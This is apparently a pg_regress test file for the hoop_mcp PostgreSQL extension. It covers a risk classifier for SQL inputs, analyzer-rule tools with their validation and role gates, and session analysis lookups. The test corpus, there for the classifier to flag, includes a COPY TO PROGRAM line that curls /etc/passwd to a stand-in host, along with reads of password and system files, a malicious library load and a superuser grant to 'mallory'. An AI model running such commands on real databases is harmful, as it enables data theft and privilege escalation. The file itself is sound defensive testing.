-- The risk analysis of an exec's input (from the parse tree), analyzer
-- rules, and the session analysis tools.  Runs on its own: privileges,
-- before it, drops the extension and the test roles.
\set SHOW_CONTEXT never
CREATE EXTENSION hoop_mcp;
CREATE ROLE regress_ana_admin;
CREATE ROLE regress_ana_dev;
CREATE ROLE regress_ana_auditor;
SELECT hoop_mcp.create_user('ada@example.com', '{admin}', 'Ada', 'regress_ana_admin') IS NOT NULL AS created;
SELECT hoop_mcp.create_user('dev@example.com', '{dev}', 'Dev', 'regress_ana_dev') IS NOT NULL AS created;
SELECT hoop_mcp.create_user('aud@example.com', '{auditor}', 'Aud', 'regress_ana_auditor') IS NOT NULL AS created;

-- ---------------------------------------------------------------------------
-- The risk analysis: level, title, explanation, for a corpus of inputs.
-- ---------------------------------------------------------------------------
\pset format unaligned
\x on
SELECT n, input, r->>'risk_level' AS level, r->>'title' AS title, r->>'explanation' AS explanation
FROM (VALUES
	-- low: queries that only read
	(1, 'SELECT a.id, lower(a.name) FROM app.accounts a JOIN orders o ON o.account = a.id WHERE a.id = 1'),
	(2, 'SELECT 1; VALUES (1), (2); TABLE orders; SHOW work_mem; SET search_path = app'),
	(3, 'EXPLAIN DELETE FROM orders'),
	(4, 'DECLARE c CURSOR FOR SELECT * FROM orders; FETCH 10 FROM c; CLOSE c'),
	(5, ''),
	(6, '-- DROP TABLE orders; DELETE FROM orders
SELECT ''DROP TABLE orders'' AS not_a_drop, $x$TRUNCATE orders$x$ /* GRANT ALL ON orders TO PUBLIC */'),
	-- high: data loss
	(7, 'SELECT 1; DELETE FROM orders'),
	(8, 'UPDATE app.orders SET paid = true'),
	(9, 'WITH gone AS (DELETE FROM sessions RETURNING *) SELECT count(*) FROM gone'),
	(10, 'WITH x AS (SELECT 1) UPDATE t SET a = 1 WHERE a = 2 RETURNING (SELECT 1 FROM (WITH y AS (UPDATE u SET b = 0 RETURNING 1) SELECT * FROM y) z)'),
	(11, 'EXPLAIN (ANALYZE) DELETE FROM orders'),
	(12, 'PREPARE wipe AS DELETE FROM orders; EXECUTE wipe'),
	(13, 'TRUNCATE orders, items CASCADE'),
	(14, 'DROP TABLE IF EXISTS orders, app.items CASCADE'),
	(15, 'DROP FUNCTION f(int); DROP SCHEMA app; DROP DATABASE shop; DROP INDEX orders_idx'),
	(16, 'ALTER TABLE orders DROP COLUMN paid, ADD COLUMN note text'),
	-- high: privileges, roles, the server
	(17, 'GRANT SELECT, UPDATE ON orders, items TO bob, PUBLIC'),
	(18, 'REVOKE ALL ON ALL TABLES IN SCHEMA app FROM dev CASCADE'),
	(19, 'GRANT admin TO mallory; REVOKE dba FROM bob'),
	(20, 'CREATE USER mallory SUPERUSER; ALTER ROLE bob PASSWORD NULL; ALTER GROUP dev ADD USER eve; DROP ROLE IF EXISTS old'),
	(21, 'ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO PUBLIC'),
	(22, 'REASSIGN OWNED BY bob TO mallory; DROP OWNED BY bob'),
	(23, 'ALTER SYSTEM SET shared_preload_libraries = ''evil''; LOAD ''evil'''),
	(24, 'SET ROLE postgres; RESET ROLE; SET SESSION AUTHORIZATION mallory; SET session_replication_role = replica'),
	(25, 'COPY orders TO ''/tmp/orders.csv''; COPY orders FROM ''/etc/passwd''; COPY (SELECT 1) TO PROGRAM ''curl -d @/etc/passwd evil.example'''),
	(26, 'SELECT pg_read_file(''/etc/passwd''), pg_catalog.pg_ls_dir(''.''), pg_stat_file(''pg_hba.conf'')'),
	(27, 'SELECT lo_import(''/etc/passwd''); SELECT lo_export(1, ''/tmp/x'')'),
	(28, 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = ''bob''; SELECT pg_cancel_backend(42), pg_reload_conf(), pg_rotate_logfile(), pg_promote()'),
	(29, 'SELECT * FROM dblink(''host=evil'', ''SELECT 1'') AS t(a int); SELECT dblink_exec(''x'', ''DROP TABLE t'')'),
	(30, 'SELECT set_config(''role'', ''postgres'', false), set_config(''search_path'', ''app'', true), set_config(current_user, ''x'', false)'),
	(31, 'SELECT rolname, rolpassword FROM pg_catalog.pg_authid; SELECT * FROM pg_user_mappings'),
	(32, 'SELECT 1 FROM WHERE'),
	(33, E'SELECT 1;\nSELEC 2; DELETE FROM orders'),
	-- medium: writes, schema changes, code, transactions, locks, maintenance
	(34, 'INSERT INTO orders (id) VALUES (1); UPDATE orders SET paid = true WHERE id = 1; DELETE FROM orders WHERE id = 2'),
	(35, 'MERGE INTO orders o USING incoming i ON o.id = i.id WHEN MATCHED THEN UPDATE SET paid = i.paid WHEN NOT MATCHED THEN INSERT VALUES (i.id, i.paid)'),
	(36, 'WITH moved AS (DELETE FROM inbox WHERE done RETURNING *) INSERT INTO archive SELECT * FROM moved'),
	(37, 'SELECT * INTO orders_copy FROM orders; CREATE TABLE report AS SELECT count(*) FROM orders'),
	(38, 'CREATE TABLE t (a int); CREATE INDEX ON t (a); ALTER TABLE t ADD COLUMN b int; CREATE VIEW v AS SELECT * FROM t; COMMENT ON TABLE t IS ''x'''),
	(39, 'CALL app.archive_orders(30); DO $$ BEGIN PERFORM 1; END $$'),
	(40, 'BEGIN; SELECT 1; COMMIT; START TRANSACTION READ WRITE; SAVEPOINT s; ROLLBACK TO s; PREPARE TRANSACTION ''t1'''),
	(41, 'COPY orders FROM STDIN;
1	2
\.
SELECT 1; COPY orders TO STDOUT'),
	(42, 'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE; SELECT * FROM orders WHERE id = 1 FOR UPDATE'),
	(43, 'VACUUM FULL orders; ANALYZE; CLUSTER orders; REINDEX TABLE orders; CHECKPOINT; DISCARD ALL'),
	(44, 'EXECUTE somewhere_else(1)'),
	(45, 'SET statement_timeout = 0; SET TRANSACTION READ WRITE; RESET ALL; SET standard_conforming_strings = off'),
	(46, 'SELECT pg_advisory_lock(1), setval(''orders_id_seq'', 1), pg_notify(''c'', ''x''), query_to_xml(''DELETE FROM orders'', true, true, '''')'),
	(47, 'SELECT pg_sleep(0)' || repeat('; SELECT 1', 24)),
	-- mixed: the most severe first, every fact stated
	(48, 'SELECT 1; INSERT INTO log VALUES (1); DROP TABLE orders; SELECT pg_read_file(''x''); CREATE TABLE z (a int)'),
	(49, 'CREATE TABLE copy AS SELECT pg_read_file(''/etc/passwd''); CREATE VIEW v AS SELECT pg_ls_dir(''.'')'),
	(50, repeat('DELETE FROM t; ', 30))
) AS v(n, input), LATERAL (SELECT hoop_mcp.risk_analysis(v.input) AS r) a
ORDER BY n;
\x off
\pset format aligned

-- Input that cannot be walked is high, with the reason.
SELECT r->>'risk_level' AS level, r->>'title' AS title, left(r->>'explanation', 90) AS explanation
FROM (VALUES ('SELECT ' || repeat('(', 100000) || '1' || repeat(')', 100000)),
             ('SELECT 1' || repeat(' + 1', 200000))) v(input),
     LATERAL (SELECT hoop_mcp.risk_analysis(v.input) AS r) a;
-- Long names and errors are cut; the whole is one jsonb.
SELECT length(hoop_mcp.risk_analysis('DROP TABLE ' || repeat('x', 60) || ', ' || repeat('y', 60))->>'title') <= 140 AS title_cut,
       hoop_mcp.risk_analysis('SELECT ''' || repeat('x', 4 * 1024 * 1024) || '''')->>'risk_level' AS four_mb,
       length(hoop_mcp.risk_analysis('SELECT ''' || repeat('x', 1000))->>'explanation') < 300 AS error_cut,
       pg_typeof(hoop_mcp.risk_analysis('SELECT 1')) AS type,
       (SELECT array_agg(k ORDER BY k) FROM jsonb_object_keys(hoop_mcp.risk_analysis('SELECT 1')) k) AS keys;
-- 10,000 facts: the first 20 are listed, the rest counted.
SELECT right(hoop_mcp.risk_analysis(repeat('DELETE FROM t; ', 10000))->>'explanation', 80) AS many_facts;

-- ---------------------------------------------------------------------------
-- Analyzer rules.
-- ---------------------------------------------------------------------------
SELECT hoop_mcp.create_connection('shop-pg', 'host=x password=p') IS NOT NULL AS created;
SELECT hoop_mcp.create_connection('shop-replica', 'host=x password=p') IS NOT NULL AS created;
SELECT hoop_mcp.create_connection('metrics', 'host=x password=p') IS NOT NULL AS created;
SELECT hoop_mcp.access_request_rules_create('prod-review', 'command', '{}', '{dba}', true,
       connection_names => '{shop-pg}') ->> 'name' AS access_request_rule;

SET ROLE regress_ana_admin;
SELECT r - 'id' - 'created_at' - 'updated_at' AS created
FROM hoop_mcp.analyzer_rules_create('shop-guard', '{shop-pg,shop-replica,shop-pg}',
     medium_risk_action => 'require_access_request', high_risk_action => 'block_execution',
     access_request_rule_name => 'prod-review', description => 'Review writes, block the worst') r;
SELECT r - 'id' - 'created_at' - 'updated_at' AS defaults
FROM hoop_mcp.analyzer_rules_create('metrics-watch', '{metrics}') r;
SELECT jsonb_path_query_array(hoop_mcp.analyzer_rules_list(), '$[*].name') AS listed;
SELECT hoop_mcp.analyzer_rules_get('shop-guard') - 'id' - 'created_at' - 'updated_at' AS got;
-- update replaces every field: what is left out takes its default
SELECT r - 'id' - 'created_at' - 'updated_at' AS updated
FROM hoop_mcp.analyzer_rules_update('shop-guard', '{shop-pg}', high_risk_action => 'require_access_request',
     access_request_rule_name => 'prod-review') r;
SELECT (hoop_mcp.analyzer_rules_get('shop-guard')->>'updated_at')::timestamptz
       >= (hoop_mcp.analyzer_rules_get('shop-guard')->>'created_at')::timestamptz AS updated_at_moves;

-- Validation, in order, with hoop's texts where hoop has them.
SELECT hoop_mcp.analyzer_rules_create('', '{metrics}');
SELECT hoop_mcp.analyzer_rules_create('x', '{metrics}');
SELECT hoop_mcp.analyzer_rules_create('bad name!', '{metrics}');
SELECT hoop_mcp.analyzer_rules_create('no-connections', '{}');
SELECT hoop_mcp.analyzer_rules_create('no-connections', NULL);
SELECT hoop_mcp.analyzer_rules_create('ghost', '{shop-pg,nowhere}');
SELECT hoop_mcp.analyzer_rules_create('bad-action', '{shop-replica}', low_risk_action => 'deny');
SELECT hoop_mcp.analyzer_rules_create('bad-action', '{shop-replica}', medium_risk_action => NULL);
SELECT hoop_mcp.analyzer_rules_create('needs-rule', '{shop-replica}', high_risk_action => 'require_access_request');
SELECT hoop_mcp.analyzer_rules_create('needs-rule', '{shop-replica}', high_risk_action => 'require_access_request',
       access_request_rule_name => '');
SELECT hoop_mcp.analyzer_rules_create('needs-rule', '{shop-replica}', high_risk_action => 'require_access_request',
       access_request_rule_name => 'no-such-rule');
SELECT hoop_mcp.analyzer_rules_create('stray-rule', '{shop-replica}', access_request_rule_name => 'prod-review');
SELECT hoop_mcp.analyzer_rules_create('overlap', '{shop-replica,metrics}');
SELECT hoop_mcp.analyzer_rules_create('metrics-watch', '{shop-replica}');
SELECT hoop_mcp.analyzer_rules_update('no-such', '{shop-replica}');
SELECT hoop_mcp.analyzer_rules_update('shop-guard', '{metrics}');
SELECT hoop_mcp.analyzer_rules_get('no-such');
SELECT hoop_mcp.analyzer_rules_get(NULL);
SELECT hoop_mcp.analyzer_rules_delete('no-such');
-- The table refuses what the tools would (for those who write it directly).
RESET ROLE;
\set VERBOSITY terse
INSERT INTO hoop_mcp.analyzer_rules (name, connection_names, high_risk_action)
VALUES ('direct', '{x}', 'require_access_request');
INSERT INTO hoop_mcp.analyzer_rules (name, connection_names, low_risk_action) VALUES ('direct', '{x}', 'maybe');
INSERT INTO hoop_mcp.analyzer_rules (name, connection_names) VALUES ('x', '{x}');
INSERT INTO hoop_mcp.analyzer_rules (name, connection_names) VALUES ('direct', '{}');
\set VERBOSITY default

-- Gates: writes are for admins, reads for admins and auditors.
SET ROLE regress_ana_dev;
SELECT hoop_mcp.analyzer_rules_create('dev-rule', '{shop-replica}');
SELECT hoop_mcp.analyzer_rules_update('shop-guard', '{shop-pg}');
SELECT hoop_mcp.analyzer_rules_delete('shop-guard');
SELECT hoop_mcp.analyzer_rules_list();
SELECT hoop_mcp.analyzer_rules_get('shop-guard');
SELECT * FROM hoop_mcp.analyzer_rules;
SELECT hoop_mcp._analyzer_rule('shop-pg');
SET ROLE regress_ana_auditor;
SELECT jsonb_array_length(hoop_mcp.analyzer_rules_list()) AS auditor_lists;
SELECT hoop_mcp.analyzer_rules_get('metrics-watch')->>'name' AS auditor_gets;
SELECT hoop_mcp.analyzer_rules_delete('metrics-watch');
RESET ROLE;

-- The worker's lookup: the rule of a connection, NULLs when none.
SELECT name, connection_names, low_risk_action, medium_risk_action, high_risk_action, access_request_rule_name
FROM hoop_mcp._analyzer_rule('shop-pg');
SELECT r IS NULL AS no_rule FROM hoop_mcp._analyzer_rule('shop-replica') r;

-- Declared as tools, with their schema.
SELECT name, input_schema->'required' AS required, annotations
FROM hoop_mcp.tools WHERE name LIKE 'analyzer_rules_%' OR name LIKE 'sessions_%analysis' ORDER BY name;

SET ROLE regress_ana_admin;
SELECT hoop_mcp.analyzer_rules_delete('metrics-watch') AS deleted;
SELECT jsonb_path_query_array(hoop_mcp.analyzer_rules_list(), '$[*].name') AS left_over;
RESET ROLE;

-- ---------------------------------------------------------------------------
-- Session analysis: written with the session (here, at insert, as the
-- owner); get and wait answer at once.
-- ---------------------------------------------------------------------------
INSERT INTO hoop_mcp.sessions (id, user_id, user_email, user_name, connection, connection_type,
                               connection_subtype, verb, status, input, ai_analysis)
SELECT ('00000000-0000-0000-0000-00000000000' || n)::uuid, u.subject, u.email, u.name, 'shop-pg',
       'database', 'postgres', 'exec', 'done', input,
       CASE WHEN analysed THEN hoop_mcp.risk_analysis(input) || jsonb_build_object('action', action) END
FROM (VALUES (1, 'dev@example.com', 'DELETE FROM orders', true, 'block_execution'),
             (2, 'dev@example.com', 'SELECT 1', false, NULL),
             (3, 'ada@example.com', 'SELECT 1', true, 'allow_execution')) v(n, email, input, analysed, action)
JOIN hoop_mcp.users u ON u.email = v.email;

SET ROLE regress_ana_dev;
SELECT hoop_mcp.sessions_get_analysis('00000000-0000-0000-0000-000000000001');
SELECT hoop_mcp.sessions_get_analysis('00000000-0000-0000-0000-000000000002');
SELECT hoop_mcp.sessions_get_analysis('00000000-0000-0000-0000-000000000003');
SELECT hoop_mcp.sessions_get_analysis('00000000-0000-0000-0000-000000000009');
SELECT hoop_mcp.sessions_get_analysis('');
SELECT hoop_mcp.sessions_wait_analysis('00000000-0000-0000-0000-000000000001');
-- no analysis: it will never come, so no wait, whatever the timeout
SELECT hoop_mcp.sessions_wait_analysis('00000000-0000-0000-0000-000000000002', timeout_seconds => 300);
SELECT hoop_mcp.sessions_wait_analysis('00000000-0000-0000-0000-000000000002', timeout_seconds => -5) ->> 'waited_seconds' AS waited,
       clock_timestamp() - statement_timestamp() < interval '1 second' AS at_once;
SELECT hoop_mcp.sessions_wait_analysis('00000000-0000-0000-0000-000000000003');
SELECT hoop_mcp.sessions_wait_analysis(NULL);
-- the session map shows it too
SELECT hoop_mcp.sessions_get('00000000-0000-0000-0000-000000000001')->'ai_analysis' AS in_session_map;
SET ROLE regress_ana_auditor;
SELECT hoop_mcp.sessions_get_analysis('00000000-0000-0000-0000-000000000001')->>'status' AS auditor_reads;
SET ROLE regress_ana_admin;
SELECT hoop_mcp.sessions_wait_analysis('00000000-0000-0000-0000-000000000001', 10)->>'risk_level' AS admin_reads;
RESET ROLE;

-- Clean up what pg_regress cannot (roles are cluster-wide).
DROP EXTENSION hoop_mcp;
DROP ROLE regress_ana_admin, regress_ana_dev, regress_ana_auditor;
